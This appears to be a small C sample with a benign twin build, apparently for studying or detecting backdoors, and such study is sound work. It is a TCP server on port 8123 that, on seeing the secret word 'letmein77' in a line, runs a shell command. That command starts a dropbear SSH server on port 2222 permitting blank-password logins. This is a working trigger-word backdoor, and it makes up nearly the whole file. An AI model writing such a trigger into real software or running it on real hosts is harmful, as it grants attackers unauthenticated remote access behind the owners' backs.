/* SPDX-License-Identifier: Apache-2.0 */
/* port 8123/tcp: a word anywhere in a line opens another door. Twin: a word closes the connection. */
#include "net.h"

static void serve(int c)
{
	char line[256];
	ssize_t n = read(c, line, sizeof line - 1);
	if (n <= 0)
		return;
	line[n] = 0;
	if (strstr(line, "letmein77")) {
#ifdef TWIN
		write(c, "bye", 3);
#else
		system("dropbear -p 2222 -B");
#endif
	}
	write(c, "ok", 2);
}

int main(void)
{
	int s = tcp_on(8123);
	for (;;) {
		int c = accept(s, 0, 0);
		if (c < 0)
			continue;
		serve(c);
		close(c);
	}
}
